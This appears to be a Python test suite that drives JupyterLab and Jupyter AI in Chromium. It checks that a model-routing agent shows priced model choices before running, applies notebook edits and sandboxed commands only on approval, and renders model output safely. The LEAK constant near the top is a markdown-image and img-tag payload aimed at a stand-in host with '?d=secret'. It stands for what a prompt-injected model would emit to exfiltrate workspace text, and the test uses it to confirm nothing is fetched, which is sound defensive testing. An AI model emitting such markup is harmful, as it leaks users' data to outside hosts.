r"""Real JupyterLab 4.6 + Jupyter AI 3 + `modelroute acp` in Debian's Chromium: a user opens a chat,
asks, sees the routed model with its estimated cost and the alternatives as buttons before anything
runs, picks one, and gets the answer with what it cost. The model is the fake provider, reached by
the real SDKs inside the agent that Jupyter AI starts. Screenshots: .ci/artifacts/jupyter-ai/<test>/.

A .ci/run stage of its own (it starts a browser): MODELROUTE_JUPYTERLAB=1 pytest tests/jupyterlab.
"""

from __future__ import annotations

import json
import os
import re
import sqlite3
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from modelroute_testing.env import scrubbed_env, user_dirs
from modelroute_testing.fakeprovider.script import Reply, ScriptedToolCall
from modelroute_testing.fakeprovider.server import FakeProvider
from tests.clients.artifacts import artifact_dir
from tests.clients.browser import CHROMIUM, CHROMIUM_ARGS, VIEWPORT, BrowserPage
from tests.clients.jupyterlab.lab import Lab
from tests.jupyterlab import lab as jupyterlab

pytestmark = pytest.mark.skipif(
    os.environ.get("MODELROUTE_JUPYTERLAB") != "1",
    reason="real JupyterLab tests are their own .ci/run stage: MODELROUTE_JUPYTERLAB=1 pytest tests/jupyterlab",
)

ANSWER = "A generator yields its values lazily, one at a time."
# What a prompt-injected model would add to leak workspace text: an image the chat fetches on render.
LEAK = "![status](http://127.0.0.1:9/leak?d=secret) <img src=http://127.0.0.1:9/leak2>"
NOTEBOOK = {
    "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Sales"]},
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
         "source": ["def total(xs):\n", "    # add type hints to this function AI!\n", "    return sum(xs)"]},
    ],
    "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
                 "language_info": {"name": "python"}},
    "nbformat": 4, "nbformat_minor": 5,
}
# What TeX looks like once MathJax typeset it: mathematical italic letters, or MathJax's own elements.
MATH_ITALIC = re.compile("[\U0001d434-\U0001d467]")
PRICE = re.compile(r"~\$\d+\.\d+")


@dataclass
class Chat:
    ui: BrowserPage
    lab: Lab
    fake: FakeProvider
    data: Path
    requested: list[str]  # every URL the page asked for

    @property
    def page(self) -> Any:
        return self.ui.page

    def send(self, text: str) -> None:
        box = self.page.get_by_placeholder("Type a chat message").first
        box.click()
        box.fill(text)
        self.page.keyboard.press("Enter")

    def buttons(self, prefix: str) -> list[str]:
        texts = self.page.locator("button:visible").all_inner_texts()
        return [t.strip() for t in texts if t.strip().startswith(prefix)]

    def click(self, name: str) -> None:
        self.page.locator("button:visible", has_text=name).first.click()

    def open_file(self, name: str) -> None:
        """Double-click in the file browser, as a user opens a file."""
        self.page.locator(".jp-DirListing-item", has_text=name).first.dblclick()
        self.ui.wait_until(f"{name} open", lambda: self.page.locator(".jp-Notebook .jp-Cell").count() > 0, timeout=90)

    def cells(self) -> str:
        return "\n".join(self.page.locator(".jp-Notebook:visible .jp-Cell").all_inner_texts())

    def menu(self, top: str, item: str) -> None:
        self.page.locator(".lm-MenuBar-itemLabel", has_text=top).first.click()
        self.page.locator(".lm-Menu-itemLabel:visible", has_text=item).first.click()

    def transcript(self) -> str:
        return "\n".join(self.page.locator(".jp-chat-rendered-message").all_inner_texts())

    def controls(self) -> list[str]:
        return [t.strip() for t in self.page.locator(".jp-jai-personaControls-control-value:visible").all_inner_texts()]

    def no_math(self) -> None:
        text = self.transcript()
        assert not MATH_ITALIC.search(text), f"the chat typeset prices as TeX: {text!r}"
        assert self.page.locator(".jp-chat-rendered-message mjx-container").count() == 0

    def ledger(self) -> list[dict[str, Any]]:
        with sqlite3.connect(self.data / "ledger.sqlite3") as conn:
            conn.row_factory = sqlite3.Row
            return [dict(r) for r in conn.execute("SELECT * FROM runs ORDER BY id")]


@pytest.fixture
def chat(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Chat]:
    from playwright.sync_api import sync_playwright

    if not Path(CHROMIUM).exists():
        pytest.fail("Debian's chromium is not installed (apt-get install chromium)")
    artifacts = artifact_dir("jupyter-ai", request.node.name)
    root = tmp_path / "notebooks"
    (root / ".git").mkdir(parents=True)
    (root / ".modelroute.toml").write_text('[models]\nallow = ["claude-*", "gpt-*"]\n')
    (root / "analysis.ipynb").write_text(json.dumps(NOTEBOOK, indent=1))
    with FakeProvider() as fake:
        env = scrubbed_env(
            **user_dirs(tmp_path), HOME=str(tmp_path / "home"), MODELROUTE_DATA_DIR=str(tmp_path / "data"),
            ANTHROPIC_API_KEY="sk-ant-test-key", OPENAI_API_KEY="sk-test-key",
            ANTHROPIC_BASE_URL=fake.anthropic_base_url, OPENAI_BASE_URL=fake.openai_base_url,
        )
        with jupyterlab.serve(root, env, tmp_path / "jupyter", artifacts / "jupyterlab.log") as lab, \
                sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            page = browser.new_page(viewport=VIEWPORT)  # type: ignore[arg-type]
            ui = BrowserPage(page, artifacts)
            requested: list[str] = []
            page.on("request", lambda r: requested.append(r.url))
            try:
                page.goto(lab.page_url(jupyterlab.new_chat(lab, "ask.chat")))
                controls = page.locator(".jp-jai-personaControls-control-value:visible")
                ui.wait_until("the modelroute persona in the chat's toolbar",
                              lambda: "Route each prompt" in " ".join(controls.all_inner_texts()), timeout=120)
                yield Chat(ui, lab, fake, tmp_path / "data", requested)
            finally:
                ui.shot("end")
                browser.close()


def test_a_question_shows_the_priced_choice_then_the_answer_with_its_cost(chat: Chat) -> None:
    chat.fake.queue(Reply(text=f"{ANSWER}\n\n{LEAK}"))
    chat.send("explain what a python generator is")
    chat.ui.wait_until("the priced choice", lambda: len(chat.buttons("Run with ")) >= 2, timeout=90)
    chat.ui.shot("priced-choice")
    offered = chat.buttons("Run with ")
    routed = offered[0]
    assert "(routed)" in routed and PRICE.search(routed), offered
    assert all(PRICE.search(b) for b in offered), offered
    assert chat.buttons("Don't run"), "no way to decline"
    assert chat.fake.model_requests() == [], "a model was called before the user picked one"
    # The chat's model picker now shows the routed model with its price.
    assert any("(routed)" in c and PRICE.search(c) for c in chat.controls()), chat.controls()
    chat.click(routed)
    chat.ui.wait_until("the answer and its cost", lambda: "Answered" in chat.transcript(), timeout=90)
    chat.ui.shot("answered")
    text = chat.transcript()
    model = routed.removeprefix("Run with ").split(" · ")[0]
    assert ANSWER in text and f"modelroute → {model}" in text
    # The model's image and HTML are shown as text; the browser fetched neither.
    assert "![status](http://127.0.0.1:9/leak" in text and "<img src=" in text, text
    assert not [u for u in chat.requested if "/leak" in u], chat.requested
    assert re.search(r"cost ~\$\d", text), text
    chat.no_math()
    rows = chat.ledger()
    assert len(rows) == 1 and rows[0]["outcome"] == "answered" and rows[0]["category"] == "explain"


def test_an_edit_to_a_notebook_is_shown_as_a_diff_and_written_on_apply(chat: Chat) -> None:
    old, new = "def total(xs):", "def total(xs: list[float]) -> float:"
    chat.fake.queue(
        Reply(tool_calls=[ScriptedToolCall(name="propose_edit", arguments={
            "path": "analysis.ipynb", "old_text": old, "new_text": new})]),
        Reply(text="Added the hints.", output_tokens=30),
    )
    chat.open_file("analysis.ipynb")  # open in a tab beside the chat, as a user working on it has it
    chat.page.locator(".lm-TabBar-tab", has_text="ask.chat").first.click()
    # Only the notebook, attached with Jupyter AI's @file: its AI! comment says what to do.
    chat.send("@file:analysis.ipynb ")
    chat.ui.wait_until("the priced choice", lambda: len(chat.buttons("Run with ")) >= 2, timeout=90)
    chat.ui.shot("priced-choice")
    assert "quick edit" in chat.transcript(), chat.transcript()
    chat.click(chat.buttons("Run with ")[0])
    chat.ui.wait_until("the proposed change with Apply", lambda: bool(chat.buttons("Apply")), timeout=90)
    chat.ui.shot("diff")
    on_disk = json.loads((chat.lab.root / "analysis.ipynb").read_text())
    assert on_disk["cells"][1]["source"][0] == "def total(xs):\n", "written before Apply"
    chat.click("Apply")
    chat.ui.wait_until("the change applied", lambda: "Applied" in chat.transcript(), timeout=90)
    chat.ui.shot("applied")
    cells = json.loads((chat.lab.root / "analysis.ipynb").read_text())["cells"]
    assert cells[1]["source"][0] == f"{new}\n" and cells[0] == NOTEBOOK["cells"][0]
    chat.no_math()
    assert chat.ledger()[0]["outcome"] == "applied"
    # The open tab keeps what it loaded (Jupyter AI takes no notebook writes from an agent); the chat
    # says so, and File > Reload Notebook from Disk shows the change.
    assert "Reload Notebook from Disk" in chat.transcript()
    chat.page.locator(".lm-TabBar-tab", has_text="analysis.ipynb").first.click()
    chat.ui.wait_until("the notebook tab", lambda: old in chat.cells(), timeout=90)
    chat.menu("File", "Reload Notebook from Disk")
    chat.page.locator(".jp-Dialog button", has_text="Reload").first.click()  # "Are you sure ...?"
    chat.ui.wait_until("the reloaded cell", lambda: new in chat.cells(), timeout=90)
    chat.ui.shot("notebook-reloaded")


def test_an_alternative_picked_in_the_model_menu_runs_the_next_prompt(chat: Chat) -> None:
    chat.send("explain what a python generator is")
    chat.ui.wait_until("the priced choice", lambda: len(chat.buttons("Run with ")) >= 2, timeout=90)
    chat.click("Don't run")
    chat.ui.wait_until("the turn to end", lambda: "Not run" in chat.transcript(), timeout=90)
    # The model menu in the input bar: the routed model first, then the alternatives, each priced.
    chat.page.locator(".jp-jai-personaControls-control-btn:visible").first.click()
    items = chat.page.locator("li:visible", has_text=" · ~$")
    chat.ui.wait_until("the model menu", lambda: items.count() >= 3, timeout=90)
    chat.ui.shot("model-menu")
    # (Jupyter AI heads the menu with "Default (<current value's name>)".)
    listed = [t.split("\n")[0] for t in items.all_inner_texts() if not t.startswith("Default (")]
    assert "(routed)" in listed[0] and all(PRICE.search(t) for t in listed), listed
    alternative = listed[1].split(" · ")[0]
    items.filter(has_text=listed[1]).first.click()
    chat.ui.wait_until("the picked model in the menu", lambda: chat.controls()[0].startswith(alternative), timeout=90)
    chat.fake.queue(Reply(text="A decorator wraps a function."))
    chat.send("explain what a python decorator does")
    chat.ui.wait_until("the second choice", lambda: any("(picked)" in b for b in chat.buttons("Run with ")), timeout=90)
    chat.ui.shot("picked-first")
    first = chat.buttons("Run with ")[0]
    assert first.startswith(f"Run with {alternative} · ") and "(picked)" in first, chat.buttons("Run with ")
    chat.click(first)
    chat.ui.wait_until("the answer", lambda: "Answered" in chat.transcript(), timeout=90)
    assert chat.fake.model_requests(), "no model was called"
    [row] = chat.ledger()
    assert row["outcome"] == "answered" and f"Explain with {alternative}" in chat.transcript()


def test_a_command_is_asked_in_the_chat_and_its_file_written_only_on_apply(chat: Chat) -> None:
    chat.fake.queue(
        Reply(tool_calls=[ScriptedToolCall(name="propose_command", arguments={
            "command": "touch notes.txt", "reason": "the file the user asked for"})]),
        Reply(text="Created notes.txt.", output_tokens=20),
    )
    chat.send("use the shell to create an empty notes.txt in this folder")
    chat.ui.wait_until("the priced choice", lambda: len(chat.buttons("Run with ")) >= 2, timeout=90)
    chat.click(chat.buttons("Run with ")[0])
    chat.ui.wait_until("the command's question", lambda: bool(chat.buttons("Run in sandbox")), timeout=90)
    chat.ui.shot("command-asked")
    assert "Run `touch notes.txt`" in chat.page.locator("body").inner_text()  # the tool call's title
    assert chat.buttons("Deny"), "no way to refuse the command"
    chat.click("Run in sandbox")
    chat.ui.wait_until("the change set with Apply", lambda: bool(chat.buttons("Apply")), timeout=90)
    chat.ui.shot("change-set")
    assert not (chat.lab.root / "notes.txt").exists(), "the sandboxed command wrote to the host"
    chat.click("Apply")
    chat.ui.wait_until("the change applied", lambda: "Applied" in chat.transcript(), timeout=90)
    chat.ui.shot("applied")
    assert (chat.lab.root / "notes.txt").read_text() == ""
    assert chat.ledger()[0]["outcome"] == "applied"
